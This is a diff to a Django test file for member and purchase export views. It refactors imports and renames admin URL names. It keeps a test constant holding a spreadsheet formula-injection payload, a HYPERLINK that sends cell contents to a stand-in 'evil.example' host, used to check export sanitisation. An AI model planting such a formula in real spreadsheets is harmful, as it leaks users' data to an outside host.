@@ -15,10 +15,11 @@ from django.urls import reverse
 from django.utils import timezone
 from import_export.formats.base_formats import CSV, XLSX
 
-from members.exports import neutralise_dataset, neutralise_formula
-from members.facts import purchase_record
+from config.common.exports import neutralise_dataset, neutralise_formula
 from members.models import Channel
-from members.resources import MemberExportResource, PurchaseResource
+from members.purchases.resources import PurchaseResource
+from members.purchases.services import purchase_record
+from members.resources import MemberExportResource
 from tests.conftest import login
 from tests.factories import MemberFactory, StoreFactory
 
@@ -27,7 +28,7 @@ pytestmark = pytest.mark.django_db
 CSV_FORMAT, XLSX_FORMAT = "0", "1"
 EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
 BOM = b"\xef\xbb\xbf"
-MEMBERS, PURCHASES = "admin:members_member_export", "admin:members_purchase_export"
+MEMBERS, PURCHASES = "admin:members_member_export", "admin:purchases_purchase_export"
 
 
 def post_export(client, url_name: str, resource, fmt: str, **headers):
@@ -140,7 +141,7 @@ def test_export_pages_need_the_export_permission(client, operator, store_staff, 
         assert client.get(reverse(name)).status_code == 200
     # the changelists link to their export pages
     assert reverse(MEMBERS) in client.get(reverse("admin:members_member_changelist")).text
-    assert reverse(PURCHASES) in client.get(reverse("admin:members_purchase_changelist")).text
+    assert reverse(PURCHASES) in client.get(reverse("admin:purchases_purchase_changelist")).text
     login(client, finance)
     assert client.get(reverse(PURCHASES)).status_code == 200
     assert client.get(reverse(MEMBERS)).status_code == 403
